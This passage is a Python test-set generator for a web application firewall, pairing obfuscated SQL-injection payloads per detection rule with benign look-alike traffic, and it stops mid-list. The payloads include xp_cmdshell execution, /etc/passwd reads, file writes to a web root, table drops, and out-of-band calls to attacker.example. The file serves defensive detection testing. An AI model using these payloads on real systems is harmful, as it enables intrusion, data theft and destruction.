"""Blind set "seventythird": the shortest SQL injection payloads a rule must still catch, one detection title at a
time, and realistic benign traffic carrying the same words.

Angle. For each SQL-injection title of CRS 3.3.4 at paranoia levels 1 and 2 (and four titles later CRS releases
added), the set lists the atomic fragments that still carry the attack, one per test as a regression suite
lists them (11 or 12 per title), then the same fragments with exactly one obfuscation each: mixed case, comments
or tabs or newlines for spaces, a MySQL versioned comment, a dropped or added space, brackets or backticks around
names, concatenation, a sign or leading zeros on a number, an upper-case exponent or hex digit. Family: sqli
only; one kebab-case sub-family per title (TITLES below maps each to its rule id and message).

Placements, as attack traffic reaches this product in production (each title's payloads spread over all six):
  query     GET /api/users?q=<payload>&page=<n>&per_page=<20|50|100>, parameters in varying order, the payload
            encoded as a browser's search form encodes it;
  form      POST /admin/users/search, csrf_token=<random>&q=<payload>;
  json      POST /api/users with one ordinary profile field carrying the payload (MongoDB operator documents
            go in as JSON objects), or POST /slack/events with an event_callback envelope whose event.text
            carries the payload after a short lead-in, with a made-up X-Slack-Signature (an attacker cannot sign);
  path      GET /api/users/<payload> or GET /api/<payload>, percent-encoded where a client must;
  header    the payload as the whole User-Agent (mostly), as the Referer, or as a cookie value;
  about 10% PATCH /api/users/42 with JSON, or POST /me/settings as a form (placements json and form).
Every request carries what a current browser sends (User-Agent, Accept, Accept-Language, Accept-Encoding, a
Referer on https://app.example.com/, Sec-Fetch-*, a Cookie with session=<random token> and a consent cookie);
Slack's deliveries carry what Slack sends. The benign half uses the same six places with innocent values: names
with apostrophes, searches and ticket titles with SQL words, profiles, Slack chat and bios (chat_and_bio), user
agents, referers and cookies of real clients.

Authorship and independence: every payload and benign text was written from general knowledge of SQL injection
and from the rule titles alone; no ruleset rule, regression test, WAF engine code or public payload list was
read. The set was measured once through the real stack on unchanged code, and no payload was changed after.
Deterministic: all tokens come from seeded random sources.
"""

from __future__ import annotations

import json
import random
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "seventythird"

# ---------------------------------------------------------------------------------------------------------------
# Payloads: per title, (atomic fragment, obfuscated form). An obfuscated form that is a key of TRANSFORMS ("@case",
# "@cmt", ...) names the one transform applied to the fragment; anything else is the obfuscated form written out.
# ---------------------------------------------------------------------------------------------------------------

TITLES: dict[str, tuple[str, str]] = {
    "libinjection-fingerprint": ("942100", "SQL Injection Attack Detected via libinjection"),
    "db-names": ("942140", "SQL Injection Attack: Common DB Names Detected"),
    "sleep-benchmark": ("942160", "Detects blind sqli tests using sleep() or benchmark()"),
    "conditional-sleep": ("942170", "SQL benchmark and sleep injection attempts including conditional queries"),
    "mssql-exec-info": ("942190", "MSSQL code execution and information gathering attempts"),
    "integer-overflow": ("942220", "Integer overflow attacks (skipfish), the magic number crash"),
    "conditional-case": ("942230", "Conditional SQL injection attempts"),
    "charset-switch-dos": ("942240", "MySQL charset switch and MSSQL DoS attempts"),
    "match-merge-execute": ("942250", "MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections"),
    "union-select-from": ("942270", "Basic sql injection, common attack string for mysql, oracle and others"),
    "pgsleep-waitfor-shutdown": ("942280", "Postgres pg_sleep, waitfor delay and database shutdown attempts"),
    "mongodb-operators": ("942290", "Basic MongoDB SQL injection attempts"),
    "stored-procedure": ("942320", "MySQL and PostgreSQL stored procedure/function injections"),
    "udf-data-manipulation": ("942350", "MySQL UDF injection and other data/structure manipulation attempts"),
    "concat-sqllfi": ("942360", "Concatenated basic SQL injection and SQLLFI attempts"),
    "mysql-inline-comment": ("942500", "MySQL in-line comment detected"),
    "quote-probe": ("942110", "Common Injection Testing Detected"),
    "sql-operator": ("942120", "SQL Operator Detected"),
    "tautology": ("942130", "SQL Tautology Detected"),
    "sql-function-names": ("942150", "SQL Injection Attack"),
    "auth-bypass-1": ("942180", "Basic SQL authentication bypass attempts 1/3"),
    "comment-space-obfuscation": ("942200", "MySQL comment-/space-obfuscated injections and backtick termination"),
    "chained-1": ("942210", "Chained SQL injection attempts 1/2"),
    "auth-bypass-2": ("942260", "Basic SQL authentication bypass attempts 2/3"),
    "comment-cond-char": ("942300", "MySQL comments, conditions and ch(a)r injections"),
    "chained-2": ("942310", "Chained SQL injection attempts 2/2"),
    "classic-probe-1": ("942330", "Classic SQL injection probings 1/3"),
    "auth-bypass-3": ("942340", "Basic SQL authentication bypass attempts 3/3"),
    "alter-union": ("942361", "Basic SQL injection based on keyword alter or union"),
    "classic-probe-2": ("942370", "Classic SQL injection probings 2/3"),
    "having-exists-orderby": ("942380", "SQL Injection Attack"),
    "or-and-comparison": ("942390", "SQL Injection Attack"),
    "and-in-list": ("942400", "SQL Injection Attack"),
    "function-call": ("942410", "SQL Injection Attack"),
    "mssql-oracle-procs": ("942470", "SQL Injection Attack"),
    "sql-statements": ("942480", "SQL Injection Attack"),
    "special-char-anomaly": ("942430", "Restricted SQL Character Anomaly Detection (args): more than 12"),
    "comment-sequence": ("942440", "SQL Comment Sequence Detected"),
    "hex-encoding": ("942450", "SQL Hex Encoding Identified"),
    "tick-backtick-bypass": ("942510", "SQLi bypass attempt by ticks or backticks detected"),
    "json-sqli": ("4.x", "JSON-Based SQL Injection"),
    "scientific-notation": ("4.x", "MySQL Scientific Notation payload detected"),
    "split-query-auth-bypass": ("4.x", "SQL Authentication bypass (split query)"),
    "auth-bypass-4": ("4.x", "Basic SQL authentication bypass attempts 4/4"),
}

PAYLOADS: dict[str, list[tuple[str, str]]] = {
    "libinjection-fingerprint": [
        ("1' or '1'='1", "@case"),
        ("1 or 1=1", "@cmt"),
        ("' or 1=1--", "@tab"),
        ("1) or (1=1", "@nl"),
        ("' union select 1--", "@xcmt"),
        ("1;drop table users--", "@case"),
        ("guest'--", "guest'/*comment*/--"),
        ("' and 1=0 union all select null,null--", "@cmt"),
        ("1' and 'a'='a", "1'and'a'='a"),
        ("-1 union select user()", "-1 union select user/**/()"),
        ('" or ""="', '"or""="'),
        ("' or true--", "'||true--"),
    ],
    "db-names": [
        ("information_schema.tables", "INFORMATION_SCHEMA.TABLES"),
        ("from information_schema.columns", "@cmt"),
        ("mysql.user", "`mysql`.`user`"),
        ("pg_catalog.pg_tables", "PG_CATALOG.pg_tables"),
        ("master..sysdatabases", "master.dbo.sysdatabases"),
        ("msysobjects", "MSysObjects"),
        ("sqlite_master", "SQLITE_MASTER"),
        ("tempdb..sysobjects", "TempDB..SysObjects"),
        ("database()", "database ()"),
        ("db_name()", "db_name/**/()"),
        ("schema_name from information_schema.schemata", "@tab"),
        ("northwind.dbo.customers", "[northwind].[dbo].[customers]"),
    ],
    "sleep-benchmark": [
        ("sleep(5)", "SLEEP(5)"),
        ("benchmark(1000000,md5(1))", "BeNcHmArK(1000000,md5(1))"),
        ("1 and sleep(3)", "@cmt"),
        ("' or sleep(5)#", "'||sleep(5)#"),
        ("select sleep(10)", "select sleep (10)"),
        ("benchmark(5000000,sha1('a'))", "benchmark(5e6,sha1('a'))"),
        ("(select(sleep(5)))", "(select(sleep/**/(5)))"),
        ("1' and sleep(5) and '1'='1", "@tab"),
        ("sleep(0.5)", "sleep(.5)"),
        ("' xor sleep(2)--", "@case"),
        ("benchmark(1e7,rand())", "benchmark/**/(1e7,rand())"),
    ],
    "conditional-sleep": [
        ("select if(1=1,sleep(5),0)", "@case"),
        ("and if(substr(user(),1,1)='r',sleep(5),1)", "@cmt"),
        ("select case when 1=1 then sleep(5) else 0 end", "@nl"),
        ("or if(1,sleep(5),0)", "or if(1,sleep (5),0)"),
        ("union select benchmark(5000000,md5('x'))", "@xcmt"),
        ("select if(ascii(substring(database(),1,1))>100,sleep(3),0)", "@case"),
        ("; select sleep(5)", ";select/**/sleep(5)"),
        ("(select 1 from (select sleep(5))x)", "@tab"),
        ("select case when (1=1) then benchmark(1000000,md5(1)) end", "@cmt"),
        ("and (select sleep(5) from dual where 1=1)", "@case"),
        ("select if(1,benchmark(9999999,sha1(1)),0)", "select/*!if*/(1,benchmark(9999999,sha1(1)),0)"),
    ],
    "mssql-exec-info": [
        ("exec master..xp_cmdshell 'whoami'", "@case"),
        ("xp_cmdshell 'dir'", "xp_cmdshell\t'dir'"),
        ("; exec xp_cmdshell 'net user'", "@cmt"),
        ("exec sp_configure 'show advanced options',1", "@nl"),
        ("' union select @@version--", "@xcmt"),
        ("select @@servername", "SeLeCt @@SERVERNAME"),
        ("execute xp_dirtree '\\\\attacker.example\\a'", "@case"),
        ("exec sp_executesql N'select 1'", "@cmt"),
        ("exec master..xp_regread", "exec master.dbo.xp_regread"),
        ("select * from openrowset('SQLOLEDB','';'sa';'','select 1')", "@tab"),
        ("; exec('xp_cmdshell ''dir''')", "; exec('xp_cmd'+'shell ''dir''')"),
    ],
    "integer-overflow": [
        ("2147483648", "+2147483648"),
        ("-2147483649", "-0002147483649"),
        ("4294967296", " 4294967296"),
        ("4294967295", "4294967295 "),
        ("9223372036854775807", "09223372036854775807"),
        ("-9223372036854775809", "-9223372036854775809.0"),
        ("18446744073709551616", "+18446744073709551616"),
        ("2.2250738585072007e-308", "2.2250738585072007E-308"),
        ("3.0.00738585072007e-308", "3.0.00738585072007E-308"),
        ("1.7976931348623157e+309", "1.7976931348623157E309"),
        ("0x100000000", "0x0100000000"),
    ],
    "conditional-case": [
        ("case when 1=1 then 1 else 0 end", "@case"),
        ("' and (case when 1=1 then 1 else 1/0 end)=1--", "@cmt"),
        ("if(1=1,1,0)", "IF(1=1,1,0)"),
        ("1 and if(1=1,1,(select 1 union select 2))", "@tab"),
        ("' or if(1,1,0)--", "'||if(1,1,0)--"),
        ("select case when (1=1) then 'a' else 'b' end", "@nl"),
        ("order by case when 1=1 then name else id end", "@xcmt"),
        ("(case when substring(user(),1,1)='a' then 1 else 0 end)", "@case"),
        ("iif(1=1,1,0)", "IIF (1=1,1,0)"),
        ("and 1=(case when 1=1 then 1 end)", "@cmt"),
        ("decode(substr(user,1,1),'A',1,0)", "DeCoDe(SuBsTr(user,1,1),'A',1,0)"),
    ],
    "charset-switch-dos": [
        ("alter database db character set utf8", "@case"),
        ("set names latin1", "@cmt"),
        ("convert(@@version using latin1)", "@cmt"),
        ("_latin1'a'", "_LATIN1'a'"),
        ("collate utf8_general_ci", "COLLATE\tutf8_general_ci"),
        ("waitfor time '23:59'", "@case"),
        ("; waitfor delay '00:00:10'--", "@cmt"),
        ("character set gbk", "CHARACTER SET 'gbk'"),
        ("select convert('a' using utf8)", "@nl"),
        ("alter table users convert to character set utf8mb4", "@xcmt"),
        ("cast(0x41 as char charset utf8)", "cast(0x41 as char CHARSET utf8)"),
    ],
    "match-merge-execute": [
        ("match(title) against('a')", "MATCH(title) AGAINST('a')"),
        ("match (name,bio) against ('+admin' in boolean mode)", "@cmt"),
        ("merge into users using dual on (1=1) when matched then update set role='admin'", "@case"),
        ("execute immediate 'select 1 from dual'", "@nl"),
        ("execute immediate 'drop table users'", "@cmt"),
        ("' or match(password) against('a*' in boolean mode)--", "@tab"),
        ("merge users as t using (select 1) as s on 1=1 when not matched then insert values(1)", "@xcmt"),
        ("begin execute immediate 'grant dba to scott'; end;", "@case"),
        ("against('x' with query expansion)", "AgAiNsT('x' WiTh QuErY ExPaNsIoN)"),
        ("match(a)against('b')", "match(a)/**/against('b')"),
        ("execute immediate :sql", "EXECUTE\tIMMEDIATE :sql"),
    ],
    "union-select-from": [
        ("union select * from users", "@case"),
        ("union all select name from users", "@cmt"),
        ("1 union select password from admin", "@tab"),
        ("' union select 1,2 from dual--", "@nl"),
        ("union select null from dual", "@xcmt"),
        ("union select banner from v$version", "@case"),
        ("union select username from all_users", "@cmt"),
        ("union distinct select x from y", "@case"),
        ("union select table_name from information_schema.tables",
         "union(select(table_name)from(information_schema.tables))"),
        ("-1 union select 1 from users where 1=1", "-1 /*!union*/ select 1 from users where 1=1"),
        ("union select login from members", "UnIoN SeLeCt login FrOm members"),
    ],
    "pgsleep-waitfor-shutdown": [
        ("select pg_sleep(5)", "@case"),
        ("pg_sleep(10)", "PG_SLEEP(10)"),
        ("; waitfor delay '0:0:5'--", "@cmt"),
        ("waitfor delay '00:00:05'", "@tab"),
        ("; shutdown--", ";SHUTDOWN--"),
        ("shutdown with nowait", "@nl"),
        ("'; shutdown with nowait;--", "@xcmt"),
        ("1;select pg_sleep(3)--", "1;select pg_sleep (3)--"),
        ("(select 1 from pg_sleep(5))", "@case"),
        ("'||pg_sleep(5)--", "'||PG_SLEEP(5)--"),
        ("waitfor time '12:00:00'", "WaItFoR TiMe '12:00:00'"),
    ],
    "mongodb-operators": [
        ('{"$ne":null}', '{ "$ne" : null }'),
        ('{"$gt":""}', "{'$gt':''}"),
        ('{"$regex":".*"}', '{"$regex":".*","$options":"si"}'),
        ('{"$where":"sleep(5000)"}', '{"$where":"sleep(5000)||1"}'),
        ("[$ne]=1", "[%24ne]=1"),
        ("$where: '1 == 1'", "$where:'1==1'"),
        ("db.users.find({})", "db['users'].find({})"),
        ("';return true;var x='", "';return(true);var x='"),
        ('{"$or":[{},{"a":1}]}', '{"$or":[{ },{"a":1}]}'),
        ('{"$nin":[]}', '{"$nin" :[ ]}'),
        ('{"$exists":true}', '{"$exists":1}'),
        ("this.password.match(/.*/)", "this['password'].match(/.*/)"),
    ],
    "stored-procedure": [
        ("procedure analyse()", "PROCEDURE ANALYSE()"),
        ("select * from users procedure analyse()", "@cmt"),
        ("create procedure p() begin select 1; end", "@case"),
        ("create or replace function f() returns void as $$ select 1 $$ language sql", "@nl"),
        ("do $$ begin perform pg_sleep(1); end $$", "@tab"),
        ("create function x() returns text language plpythonu as 'import os'", "@xcmt"),
        ("copy (select '') to program 'id'", "@case"),
        ("call p()", "CALL p ()"),
        ("declare @s varchar(99) set @s='select 1' exec(@s)", "@cmt"),
        ("drop function if exists f", "@case"),
        ("returns trigger as $$ begin return new; end $$ language plpgsql", "@nl"),
    ],
    "udf-data-manipulation": [
        ("create function sys_exec returns integer soname 'lib_mysqludf_sys.so'", "@case"),
        ("select sys_eval('id')", "SeLeCt sys_eval('id')"),
        ("; drop table users", ";drop/**/table/**/users"),
        ("; alter table users add column x int", "@tab"),
        ("; insert into users values(1,'a')", "@case"),
        ("; update users set role='admin'", "@cmt"),
        ("; delete from sessions", "@nl"),
        ("; truncate table audit_log", "@xcmt"),
        ("' into outfile '/tmp/x", "' INTO OUTFILE '/tmp/x"),
        ("into dumpfile '/var/www/x.php'", "@cmt"),
        ("; create table t(x text)", "@case"),
    ],
    "concat-sqllfi": [
        ("load_file('/etc/passwd')", "LoAd_FiLe('/etc/passwd')"),
        ("1 union select load_file(0x2f6574632f706173737764)", "@cmt"),
        ("concat(user(),0x3a,version())", "CONCAT(user(),0x3a,version())"),
        ("' union select 1,concat(username,password) from users--", "@tab"),
        ("load data infile '/etc/passwd' into table t", "@case"),
        ("1;select load_file('/etc/hosts')", "1;select/**/load_file('/etc/hosts')"),
        ("1 and updatexml(1,concat(0x7e,user()),1)", "@nl"),
        ("extractvalue(1,concat(0x5c,database()))", "ExTrAcTvAlUe(1,concat(0x5c,database()))"),
        ("group_concat(table_name)", "group_concat/**/(table_name)"),
        ("'; select * from users into outfile '/tmp/u'", "@xcmt"),
        ("union select concat_ws(0x3a,user,password) from mysql.user", "@cmt"),
    ],
    "mysql-inline-comment": [
        ("/*!50000select*/", "/*!50000SeLeCt*/"),
        ("/*!union*/", "/*!UNION*/"),
        ("1/*!and*/1=1", "1 /*!and*/ 1=1"),
        ("/*!12345sleep(5)*/", "/*!12345sleep/**/(5)*/"),
        ("/*! or 1=1*/", "/*!\tor\t1=1*/"),
        ("' /*!50000union*/ /*!50000select*/ 1--", "'/*!50000union*//*!50000select*/1--"),
        ("/*!00000concat*/(1)", "/*!00000CoNcAt*/(1)"),
        ("/*!select*/ 1", "/*!\nselect*/ 1"),
        ("/*!32302 1/0, */", "/*!32302 1/0,*/"),
        ("1 /*!or*/ 1", "1/*!or*/1"),
        ("/*!from*/users", "/*!40000from*/users"),
    ],
    "quote-probe": [
        ("'", "%27"),
        ("''", "'\t'"),
        ('"', '\\"'),
        ("1'", "1%27"),
        ("')", "' )"),
        ("';", "';;"),
        ("'--", "'-- -"),
        ('1"', '1"\t'),
        ('")', '" )'),
        ("'''", "' ' '"),
        ("`'", "`'\""),
        ("\\'", "\\\\'"),
    ],
    "sql-operator": [
        ("1 rlike 1", "1 RLIKE 1"),
        ("a' regexp '^a", "a' REGEXP '^a"),
        ("1 xor 1", "@cmt"),
        ("1 div 0", "@tab"),
        ("'a' like 'a%'", "'a'like'a%'"),
        ("1 not between 0 and 2", "@case"),
        ("1 is not null", "@cmt"),
        ("1 sounds like 1", "1 SoUnDs LiKe 1"),
        ("1 <> 2", "1<>2"),
        ("' || 'b", "'||'b"),
        ("1 <=> 1", "1<=>1"),
    ],
    "tautology": [
        ("1=1", "1 = 1"),
        ("'a'='a'", "'a' = 'a'"),
        ("' or 'x'='x", "@case"),
        ("or 1=1", "@cmt"),
        ("or 2>1", "or 2 > 1"),
        ("and 3=3", "@tab"),
        ("'1'='1", "'1'\t=\t'1"),
        ("or 'a'<>'b'", "@xcmt"),
        ("1 or 1 like 1", "@case"),
        ('"a"="a"', '"a" ="a"'),
        ("or 0=0", "oR 0=0"),
    ],
    "sql-function-names": [
        ("concat(", "CoNcAt("),
        ("substring(user(),1,1)", "substring/**/(user(),1,1)"),
        ("ascii(", "ascii ("),
        ("char(65)", "CHAR(65)"),
        ("version()", "version/**/()"),
        ("user()", "UsEr()"),
        ("group_concat(", "group_concat\t("),
        ("hex(", "HEX("),
        ("md5(1)", "md5 (1)"),
        ("length(user())", "LENGTH(user())"),
        ("updatexml(", "UpDaTeXmL("),
        ("mid(version(),1,1)", "MID(version(),1,1)"),
    ],
    "auth-bypass-1": [
        ("admin' --", "admin'--"),
        ("admin'#", "admin' #"),
        ("' or 1 --", "@cmt"),
        ("1' or '1'='1'--", "@case"),
        ('" or 1=1#', '"or 1=1#'),
        ("' or ''='", "@tab"),
        ("') or ('a'='a", "@cmt"),
        ("admin' or '1'='1", "@case"),
        ("' or 'x'='x'#", "@xcmt"),
        ("x' or 1=1 or 'x'='y", "@nl"),
        ("' or 1=1 limit 1 --", "@case"),
    ],
    "comment-space-obfuscation": [
        ("1/**/union/**/select", "1/**/UnIoN/**/SeLeCt"),
        ("'/**/or/**/1=1", "'/*foo*/or/*bar*/1=1"),
        ("a`) or 1=1#", "a`)or(1=1)#"),
        ("select/*x*/1", "select/*x*//*y*/1"),
        ("1'\tor\t1=1", "1'\x0bor\x0b1=1"),
        ("`,`", "`, `"),
        ("id`=1 or`", "id`=1 OR`"),
        ("1)/**/or/**/(1", "1)/**/OR/**/(1"),
        ("/**/and/**/1", "/**/aNd/**/1"),
        ("union\nselect", "union\r\nselect"),
        ("'/**/union/**/select/**/1--", "'/*!*/union/*!*/select/*!*/1--"),
    ],
    "chained-1": [
        ("';select 1--", "';SeLeCt 1--"),
        ("1;delete from t", "1;/**/delete from t"),
        ("' && '1", "'&&'1"),
        ("1 || 1", "1||1"),
        ("@a:=1", "@a := 1"),
        ("1);select 1--", "1);\nselect 1--"),
        ("' and 1 is 1", "@case"),
        ("'; exec sp_who", "@cmt"),
        ("a'=@var", "a' = @var"),
        ("1 and (select 1)=1", "@tab"),
        ("'; update users set x=1", "@xcmt"),
    ],
    "auth-bypass-2": [
        ("' or '1'='1", "@case"),
        ("'=''or'", "' = '' or '"),
        ("' or 1#", "'||1#"),
        ('" or "a"="a', "@cmt"),
        ("root'/*", "root' /*"),
        ("' or true#", "'oR tRuE#"),
        ("') or true--", "@tab"),
        ("'||'1'='1", "'||'1'\t=\t'1"),
        ("1'or'1'='1", "1'OR'1'='1"),
        ("' or 'a'='a'/*", "@cmt"),
        ("admin') or ('1'='1'--", "@nl"),
    ],
    "comment-cond-char": [
        ("char(97,100,109,105,110)", "CHAR(97,100,109,105,110)"),
        ("chr(65)||chr(66)", "CHR(65)||CHR(66)"),
        ("1#\n", "1 #\n"),
        ("' or 1=1#", "@cmt"),
        ("char(0x61)", "char (0x61)"),
        ("1 and 1=1#", "@case"),
        ("concat(char(39),char(39))", "concat(char (39),char (39))"),
        ("a' #", "a'\t#"),
        ("); -- ", ");--\t"),
        ("' and (select 1)#", "@cmt"),
        ("1 /* cmt */ or 1", "1/*cmt*/or/*cmt*/1"),
    ],
    "chained-2": [
        ("1' and 'a'='a';", "@case"),
        ("x); drop table y;--", "@cmt"),
        ("'; select * from users", "@tab"),
        ("1) union (select 1", "@case"),
        ("'));--", "'));-- -"),
        ("1' limit 1--", "1'LIMIT 1--"),
        ("'and(select 1)='1", "'AND(SELECT 1)='1"),
        ("'; waitfor delay '0:0:1'--", "@xcmt"),
        ("1);--", "1) ;--"),
        ("')) or (('a'='a", "@nl"),
        ('"; select 1;--', '";select 1;--'),
    ],
    "classic-probe-1": [
        ("' or 1", "'or 1"),
        ('" or 1=1', '"OR 1=1'),
        ("1' and 1", "1'AND 1"),
        ("' and '", "'and'"),
        ("' xor '", "'XoR'"),
        ("1' or'", "1'||'"),
        ('" and "', '"&&"'),
        ("'and 1=1", "'and\t1=1"),
        ("1)' or", "1)'OR"),
        ("' ||'", "' || '"),
        ("' &&'", "'&& '"),
    ],
    "auth-bypass-3": [
        ("' or 1 in (1)--", "@case"),
        ("in (select 1)", "in(select 1)"),
        ("' or 'a' in ('a')", "@cmt"),
        ("admin' or 1 in (select 1)--", "@tab"),
        ("' or id is not null--", "@xcmt"),
        ("x' and 1 in (select @@version)", "@case"),
        ("' like '%", "'LIKE'%"),
        ("' or username like '%'--", "@nl"),
        ("1 in (1)", "1/**/in/**/(1)"),
        ("' or 1=1 limit 1--", "@cmt"),
        ("' or 1 between 0 and 2--", "@case"),
    ],
    "alter-union": [
        ("alter table users", "AlTeR TaBlE users"),
        ("union select", "union\tselect"),
        ("union all select", "@cmt"),
        ("alter user root", "@case"),
        ("1 union select", "1 UNION SELECT"),
        ("') union select", "')union(select"),
        ("alter database x", "@cmt"),
        ("union(select 1)", "UNION(SELECT 1)"),
        ("alter view v as", "@nl"),
        ("union distinct select", "@xcmt"),
        ("alter system set", "ALTER system SET"),
    ],
    "classic-probe-2": [
        ("' and 1=1", "@case"),
        ("'*1", "' *1"),
        ("1 between 1 and 1", "@cmt"),
        ("' - 0", "'-0"),
        ("1'-- -", "1'--+"),
        ("'+'", "' + '"),
        ('"="', '" = "'),
        ("x' = 'x", "x'='x"),
        ("1'='1", "1' ='1"),
        ("a'||'b", "a' || 'b"),
        ("'<>'", "' <> '"),
    ],
    "having-exists-orderby": [
        ("' having 1=1--", "@case"),
        ("1 group by id having 1=1", "@cmt"),
        ("' order by 1--", "'ORDER BY 1--"),
        ("and exists(select 1)", "and exists (select 1)"),
        ("' or exists(select * from users)--", "@tab"),
        ("1 limit 1 offset 1", "@xcmt"),
        ("' group by 1,2--", "@case"),
        ("order by 3#", "order/**/by/**/3#"),
        ("having count(*)>0", "HaViNg count(*)>0"),
        ("1 and not exists(select 1)", "@nl"),
        ("select top 1 name from users", "@case"),
    ],
    "or-and-comparison": [
        ("' or 1 = 1", "@case"),
        ("or 'a' < 'b'", "@cmt"),
        ("xor 1=1", "XOR 1=1"),
        ("and 0<1", "and\t0<1"),
        ("or 3>2", "OR 3>2"),
        ("' and 'a' != 'b", "@xcmt"),
        ("or 1 >= 1", "or/**/1>=1"),
        ("and 2 <= 3", "@nl"),
        ("' or 'b' > 'a", "'oR'b'>'a"),
        ("|| 1=1", "||1=1"),
        ("&& 1<2", "&&1<2"),
    ],
    "and-in-list": [
        ("and 1 in (1)", "@case"),
        ("' and 1 in (1)--", "@cmt"),
        ("or 1 in (select 1)", "@tab"),
        ("and 'a' in ('a')", "and 'a'in('a')"),
        ("' and id in (1,2,3)--", "@xcmt"),
        ("and user in ('root')", "@case"),
        ("or 1 in (1)", "OR 1 IN (1)"),
        ("and 1 not in (2)", "@nl"),
        ("' or 'x' in ('x')#", "@cmt"),
        ("and (1) in (1)", "and(1)in(1)"),
        ("&& 1 in (1)", "&&1 in(1)"),
    ],
    "function-call": [
        ("abs(1)", "ABS(1)"),
        ("ascii(substring(user(),1,1))", "@case"),
        ("bin(1)", "bin (1)"),
        ("char_length(user())", "CHAR_LENGTH(user())"),
        ("cast(1 as int)", "@cmt"),
        ("coalesce(null,1)", "CoAlEsCe(null,1)"),
        ("conv(10,10,2)", "conv\t(10,10,2)"),
        ("count(*)", "count (*)"),
        ("crc32('a')", "CRC32('a')"),
        ("lpad(1,3,0)", "lpad/**/(1,3,0)"),
        ("sha1(1)", "ShA1(1)"),
        ("uuid()", "UUID ()"),
    ],
    "mssql-oracle-procs": [
        ("xp_cmdshell", "XP_CMDSHELL"),
        ("xp_regread", "master..xp_regread"),
        ("sp_password", "SP_PASSWORD"),
        ("sp_oacreate 'wscript.shell'", "sp_oacreate\t'wscript.shell'"),
        ("openquery(srv,'select 1')", "OPENQUERY(srv,'select 1')"),
        ("opendatasource('SQLOLEDB','')", "OpenDataSource('SQLOLEDB','')"),
        ("dbms_pipe.receive_message('a',10)", "DBMS_PIPE.RECEIVE_MESSAGE('a',10)"),
        ("utl_http.request('http://attacker.example/')", "UTL_HTTP.request('http://attacker.example/')"),
        ("sp_makewebtask", "Sp_MakeWebTask"),
        ("xp_availablemedia", "exec xp_availablemedia"),
        ("sp_addlogin 'x'", "sp_addlogin\t'x'"),
    ],
    "sql-statements": [
        ("select * from users", "@case"),
        ("insert into users values", "@cmt"),
        ("delete from sessions", "@tab"),
        ("update users set", "@xcmt"),
        ("drop table x", "@nl"),
        ("create table t", "@case"),
        ("select * from dual", "select*from dual"),
        ("truncate table t", "@cmt"),
        ("select password from admin", "SELECT password FROM admin"),
        ("replace into users", "@case"),
        ("select count(*) from orders", "select count(*)from orders"),
    ],
    "special-char-anomaly": [
        ("')));--'--'--'--", "')));--'--'--'--'"),
        ("((((((((((((1))))))))))))", "(((((((((((( 1 ))))))))))))"),
        ("';';';';';';';'", "'; '; '; '; '; '; '; '"),
        ("!@#$%^&*()~`'\"", "!@#$%^&*()~`'\"<>"),
        ("a'-'b'-'c'-'d'-'e'", "a'+'b'+'c'+'d'+'e'"),
        ("1)))))))))))))--", "1)))))))))))))#"),
        ("'''''''''''''", "'\"'\"'\"'\"'\"'\"'"),
        ("~~~~~~~~~~~~~1", "~ ~ ~ ~ ~ ~ ~ ~ ~ ~ ~ ~ ~1"),
        ("@@version;@@hostname;@@datadir;", "@@version;@@hostname;@@datadir;@@basedir"),
        ("((('x')))=((('x')))", "((('x')))<>((('y')))"),
        ("1';--';--';--';--", "1'/**/;--';--';--'"),
    ],
    "comment-sequence": [
        ("--", "-- -"),
        ("1--", "1-- "),
        ("/*", "/*/"),
        ("*/", "*/--"),
        ("#", "#-"),
        ("user'--", "user'--+"),
        (";--", "; --"),
        ("'#", "' #"),
        ("--+", "--\t"),
        ("/*!*/", "/*!00000*/"),
        ("1/*x*/", "1/*xx*/"),
    ],
    "hex-encoding": [
        ("0x61646d696e", "0x61646D696E"),
        ("0x2f6574632f706173737764", "0x2F6574632F706173737764"),
        ("x'61646d696e'", "X'61646d696e'"),
        ("unhex('61646d696e')", "UNHEX('61646d696e')"),
        ("0x41424344", "0x41424344 "),
        ("select 0x73656c656374", "select/**/0x73656c656374"),
        ("0x7e", "0x007e"),
        ("' or username=0x61646d696e--", "' or username = 0x61646d696e--"),
        ("char(0x61,0x62)", "CHAR(0x61,0x62)"),
        ("0x3c3f706870", "0x3c3f7068700a"),
        ("concat(0x3a,0x3a)", "concat(0x3a , 0x3a)"),
    ],
    "tick-backtick-bypass": [
        ("`1` or 1=1", "`1`or`1`=`1`"),
        ("'`'", "'``'"),
        ("a`=`a", "a` = `a"),
        ("`sleep`(5)", "`SLEEP`(5)"),
        ("`id`=1 or 1", "`id`=1||1"),
        ("1`", "1``"),
        ("`or`", "`OR`"),
        ("user`;", "user` ;"),
        ("` union select", "`union select"),
        ("x`='x'`", "x`='x'`--"),
        ("'`or 1=1`'", "'`OR 1=1`'"),
    ],
    "json-sqli": [
        ("json_extract('{\"a\":1}','$.a')=1", "JSON_EXTRACT('{\"a\":1}','$.a')=1"),
        ("'{\"a\":1}' @> '{}'", "'{\"a\":1}'@>'{}'"),
        ("' or json_extract(data,'$.role')='admin'--", "@cmt"),
        ("'{\"x\":1}'::jsonb", "'{\"x\":1}' :: jsonb"),
        ("json_keys(profile)", "JSON_KEYS(profile)"),
        ("data->>'role'='admin'", "data ->> 'role' = 'admin'"),
        ("1 and '{\"a\":2}' <@ '{}'", "1 and '{\"a\":2}'<@'{}'"),
        ("json_object('a',user())", "JsOn_ObJeCt('a',user())"),
        ("' or '{}'::json is not null--", "@tab"),
        ("jsonb_build_object('a',1) ? 'a'", "jsonb_build_object('a',1)?'a'"),
        ("' and json_valid('{}')--", "@case"),
        ("json_array_length('[1]')>0", "json_array_length ('[1]')>0"),
    ],
    "scientific-notation": [
        ("1.e(ascii(1))", "1.E(ascii(1))"),
        ("1e1union select 1", "1e1UNION SELECT 1"),
        ("0.1e1union select", "0.1e1union/**/select"),
        ("select 1.e.id from users", "select 1.E.id from users"),
        ("' or 1.e(1)='1", "'or 1.e(1)='1"),
        ("1e0select", "1E0select"),
        ("1.e1from users", "1.e1 from users"),
        ("2e0union all select 1", "2e0/**/union all select 1"),
        ("1.e(version())", "1.e (version())"),
        ("id=1.e(0)or 1=1", "id=1.e(0)OR 1=1"),
        ("1.0e0or 1=1", "1.0E0or 1=1"),
    ],
    "split-query-auth-bypass": [
        ("*/ or '1'='1", "*/or'1'='1"),
        ("*/or 1=1-- -", "*/OR 1=1-- -"),
        ("admin'/*", "admin' /*"),
        ("x'/*", "x'/*!"),
        ("*/='1", "*/ = '1"),
